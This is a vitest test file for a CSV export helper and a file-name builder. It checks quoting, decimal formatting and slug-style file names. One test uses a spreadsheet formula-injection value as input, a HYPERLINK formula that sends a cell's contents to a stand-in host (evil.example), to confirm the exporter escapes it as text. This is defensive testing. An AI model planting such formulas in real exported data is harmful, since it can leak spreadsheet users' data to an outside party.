import { describe, expect, it } from 'vitest';
import { toCsv } from './csv.ts';
import { csvFileName } from './csv-file-name.ts';

describe('toCsv', () => {
  it('writes a header row, quotes what needs it, money with two decimals and empty cells for nothing', () => {
    const rows = [
      { vendor: 'Acme, Inc.', charges: 1234.5, pct: 12.5, note: null },
      { vendor: 'Say "hi"', charges: 10, pct: null, note: 'ok' },
    ];
    const text = toCsv(
      [
        { header: 'Vendor', value: (r) => r.vendor },
        { header: 'Charges', value: (r) => r.charges, kind: 'money' },
        { header: 'Share %', value: (r) => r.pct, kind: 'pct' },
        { header: 'Note', value: (r) => r.note },
      ],
      rows,
    );
    expect(text).toBe('Vendor,Charges,Share %,Note\n"Acme, Inc.",1234.50,12.5,\n"Say ""hi""",10.00,,ok\n');
  });

  it('writes text that would start a spreadsheet formula as text, and figures as they are', () => {
    const rows = [
      { vendor: '=HYPERLINK("https://evil.example/?"&C2,"Acme")', variance: '-993.50' },
      { vendor: '@SUM(A1:A9)', variance: '12.00' },
      { vendor: '-minus vendor', variance: '0.00' },
    ];
    const text = toCsv(
      [
        { header: 'Vendor', value: (r) => r.vendor },
        { header: 'Variance', value: (r) => r.variance, kind: 'money' },
      ],
      rows,
    );
    expect(text).toBe(
      'Vendor,Variance\n"\'=HYPERLINK(""https://evil.example/?""&C2,""Acme"")",-993.50\n\'@SUM(A1:A9),12.00\n\'-minus vendor,0.00\n',
    );
  });

  it('writes figures with the decimals the page shows them with, never a raw float', () => {
    const rows = [
      { pct: 35.23679797979798, rating: 4.142857, days: 24.25, count: 3, score: 84, plain: 12.5 },
    ];
    const text = toCsv(
      [
        { header: 'Savings %', value: (r) => r.pct, kind: 'pct' },
        { header: 'Quality', value: (r) => r.rating, kind: 'rating' },
        { header: 'Cycle days', value: (r) => r.days, kind: 'days' },
        { header: 'Breaches', value: (r) => r.count, kind: 'count' },
        { header: 'Score', value: (r) => r.score, kind: 'score' },
        { header: 'Value', value: (r) => r.plain, kind: 'number' },
      ],
      rows,
    );
    expect(text).toBe('Savings %,Quality,Cycle days,Breaches,Score,Value\n35.2,4.14,24.3,3,84.0,12.5\n');
    // An exact decimal the API gave stays as it is; a negative keeps its ASCII minus for spreadsheets.
    expect(
      toCsv([{ header: 'Actual', value: (r: { a: string }) => r.a, kind: 'number' }], [{ a: '-3.125' }]),
    ).toBe('Actual\n-3.125\n');
  });

  it('names files after the title, what they are narrowed to, and the range', () => {
    expect(csvFileName('Spend by vendor', { from: '2025-01', to: '2025-06' })).toBe(
      'spend-by-vendor-2025-01-2025-06.csv',
    );
    expect(
      csvFileName('Spend by vendor', { from: '2025-01', to: '2025-06' }, ['BPO', 'Acme Services, Inc.']),
    ).toBe('spend-by-vendor-bpo-acme-services-inc-2025-01-2025-06.csv');
    expect(csvFileName('Cost by month', undefined, ['ENG-001'])).toBe('cost-by-month-eng-001.csv');
    expect(csvFileName('SLA breaches!')).toBe('sla-breaches.csv');
  });
});
